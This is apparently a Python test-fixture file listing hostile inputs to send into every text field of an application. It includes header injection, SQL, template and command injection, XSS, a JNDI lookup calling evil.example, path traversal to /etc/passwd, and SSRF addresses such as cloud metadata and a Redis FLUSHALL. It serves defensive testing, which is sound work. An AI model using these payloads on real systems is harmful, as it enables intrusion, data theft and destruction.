"""Texts that have broken something somewhere: each is sent in every field that takes a text."""

HEADERS = (
    "Ada\r\nBcc: eve@evil.example",
    "Ada\nX-Injected: 1",
    "Ada\rX-Injected: 1",
    "Ada\r\n\r\n<script>alert(1)</script>",
    "ada@example.com\r\nBcc: eve@evil.example",
    "ada@example.com\nRCPT TO: <eve@evil.example>",
    "Ada\x0bX-Injected: 1",
    "Ada\x0cX-Injected: 1",
    "Ada\x1cX-Injected: 1",
    "Ada\x85X-Injected: 1",
    "Ada\u2028X-Injected: 1",
    "Ada\u2029X-Injected: 1",
    "Ada%0d%0aX-Injected:%201",
    "Ada\u560d\u560aX-Injected: 1",
    "=?utf-8?Q?=0D=0ABcc:=20eve@evil.example?=",
)
"""New lines of every sort that some parser somewhere takes for one."""

LINES = tuple(f"Ada{line}Eve" for line in ("\n", "\r\n", "\r"))
CONTROLS = tuple(
    f"Ada{control}Eve"
    for control in ("\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b", "\x1f", "\x7f", "\x80", "\x85")
)

HIDDEN = (
    "\x00",
    "Ada\x00",
    "Ada\x08\x08\x08Eve",
    "Ada\x1b[2J\x1b[31m",
    "Ada\x7f",
    "\u202eadA",
    "Ada\u2066\u202e\u2069",
    "A\u200bd\u200da\ufeff",
    "\u00adAda\u2060",
    "Ad\u0430",
    "\U000e0041\U000e0064\U000e0061",
    "A" + "\u0301" * 90,
    "\ufffe\uffff",
)
"""What a reader does not see, or sees elsewhere."""

BROKEN = (
    "\ud800",
    "Ada\udfff",
    "\udc00\ud800",
    "\U0001f511" * 60,
    "\ufdfa" * 90,
)
"""Halves of characters, and characters that grow."""

PROGRAMS = (
    "'; DROP TABLE users; --",
    '" OR 1=1 --',
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "$(touch /tmp/pwned)`id`",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "=cmd|' /C calc'!A0",
    "%s%s%s%n%x",
    "__proto__",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "TASK#tsk_1",
    "USER#usr_1",
    "attribute_exists(pk)",
    ":x = :y",
    "null",
    "NaN",
    "0x10",
    "1e309",
    "",
    " ",
    "\t",
)
"""What somebody downstream could take for a command, a key or a value."""

PLACES = (
    "http://169.254.169.254/latest/meta-data/",
    "http://[::ffff:169.254.169.254]/",
    "http://127.0.0.1:4566/",
    "http://[::1]/",
    "http://0/",
    "http://2130706433/",
    "http://0177.0.0.1/",
    "http://localhost#@evil.example/",
    "https://evil.example\\@countersign.example/",
    "https://user:pass@evil.example/",
    "//evil.example/",
    "/\\evil.example",
    "https:evil.example",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "data:text/html,<script>alert(1)</script>",
    "arn:aws:iam::123456789012:role/admin",
)
"""Addresses that nothing of ours may ever call or lead a browser to."""

OPEN = ("⟦", "⟦⟧", "⟦a ⟦b⟧ c⟧", "[Your name] ⟧ XX:XX ⟦")
"""What is left open, and never closed."""

LONG = ("a" * 3_000, "a@" + "b." * 2_000 + "example", "(" * 2_500, "[" * 2_500, "é" * 2_500)

HOSTILE: tuple[str, ...] = (*HEADERS, *HIDDEN, *BROKEN, *PROGRAMS, *PLACES, *OPEN, *LONG)

OTHER_TYPES: tuple[object, ...] = (
    0,
    -1,
    2**63,
    10**400,
    1.5,
    True,
    [],
    ["a"],
    {},
    {"$ne": ""},
    {"S": "a"},
    [[[[[]]]]],
)
"""What is no text at all."""
